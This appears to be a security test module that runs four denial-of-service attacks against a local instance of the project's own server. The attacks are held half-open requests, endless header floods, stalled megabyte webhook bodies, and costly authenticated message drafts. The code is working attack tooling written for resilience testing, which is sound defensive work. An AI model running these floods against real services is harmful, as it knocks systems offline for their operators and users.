"""A stranger, or one dishonest author, against a running `up`: `python -m tests.security.attacker
ATTACK HOST PORT [TOKEN]`, until it is killed.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import socket
import sys
import threading
import time
import uuid
from collections.abc import Callable

HEAD = b"POST / HTTP/1.1\r\nHost: x\r\nX-Slow: "


def connect(where: tuple[str, int]) -> socket.socket:
    """Return a connection."""
    sock = socket.create_connection(where, timeout=5)
    sock.settimeout(5)
    return sock


def unfinished_requests(where: tuple[str, int], _token: str) -> None:
    """Keep 1,100 half heads open, and open a new one for each that is closed."""
    held: list[socket.socket] = []
    while True:
        while len(held) < 1100:
            with contextlib.suppress(OSError):
                sock = connect(where)
                sock.sendall(HEAD)
                held.append(sock)
        time.sleep(0.05)
        alive = []
        for sock in held:
            try:
                sock.setblocking(False)
                closed = sock.recv(100) == b""
            except BlockingIOError:
                closed = False
            except OSError:
                closed = True
            if closed:
                sock.close()
            else:
                alive.append(sock)
        held = alive


def endless_headers(where: tuple[str, int], _token: str) -> None:
    """Send headers without end, over two connections."""
    flood = b"X-A: " + b"a" * 60_000 + b"\r\n"

    def send() -> None:
        while True:
            with contextlib.suppress(OSError), connect(where) as sock:
                sock.sendall(b"GET / HTTP/1.1\r\n")
                while True:
                    sock.sendall(flood)

    _threads(send, 2)


def webhook_bodies(where: tuple[str, int], _token: str) -> None:
    """Hold 600 bodies of a megabyte back before their end."""
    body = b"a" * 60_000
    head = (
        b"POST /hooks/twilio/inbound HTTP/1.1\r\nHost: x\r\nContent-Type:"
        b" application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n"
    )
    while True:
        held = []
        for _ in range(600):
            with contextlib.suppress(OSError):
                sock = connect(where)
                sock.sendall(head + body)
                held.append(sock)
        time.sleep(2)
        for sock in held:
            sock.close()


def costly_drafts(where: tuple[str, int], token: str) -> None:
    """Have one author ask for what used to cost half a minute, eight at a time."""
    bodies: list[dict[str, object]] = [
        {"circles": ["1" * 50_000 + "x,0 1"]},
        {"circles": ["51.5,-0.1 1"] * 100_000},
        {"hotlines": ["0800 555 111"] * 3200},
        {
            "polygons": [
                " ".join(f"{51.4 + (i % 2) / 10},{-0.2 + i / 50_000}" for i in range(4000))
                + " 51.4,-0.2"
            ]
        },
        {"languages": {"en": {"headline": "x", "description": "a " * 900_000}}},
    ]

    def ask() -> None:
        n = 0
        while True:
            draft: dict[str, object] = {
                "kind": "incident",
                "status": "Test",
                "languages": {"en": {"headline": "x"}},
                **bodies[n % len(bodies)],
            }
            body = json.dumps(draft).encode()
            n += 1
            head = "\r\n".join(
                [
                    "POST /api/v1/messages HTTP/1.1",
                    "Host: x",
                    f"Authorization: Bearer {token}",
                    f"Idempotency-Key: {uuid.uuid4()}",
                    "Content-Type: application/json",
                    f"Content-Length: {len(body)}",
                    "Connection: close",
                    "",
                    "",
                ]
            )
            with contextlib.suppress(OSError), connect(where) as sock:
                sock.settimeout(30)
                sock.sendall(head.encode() + body)
                while sock.recv(65536):
                    pass

    _threads(ask, 8)


def _threads(work: Callable[[], None], n: int) -> None:
    for _ in range(n):
        threading.Thread(target=work, daemon=True).start()
    while True:
        time.sleep(1)


ATTACKS = {
    f.__name__: f for f in (unfinished_requests, endless_headers, webhook_bodies, costly_drafts)
}

if __name__ == "__main__":
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ATTACKS[sys.argv[1]]((sys.argv[2], int(sys.argv[3])), sys.argv[4] if len(sys.argv) > 4 else "")
